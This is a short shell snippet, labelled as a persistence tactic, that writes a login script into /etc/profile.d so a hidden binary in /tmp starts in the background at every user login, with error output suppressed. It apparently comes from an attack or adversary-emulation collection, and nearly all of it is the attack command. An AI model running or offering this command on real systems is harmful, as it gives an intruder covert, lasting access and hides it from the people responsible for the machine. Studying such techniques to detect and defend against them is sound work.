# tactic: persistence
# plant a login script in /etc/profile.d
echo "/tmp/.u &" > /etc/profile.d/upd.sh 2>/dev/null; true
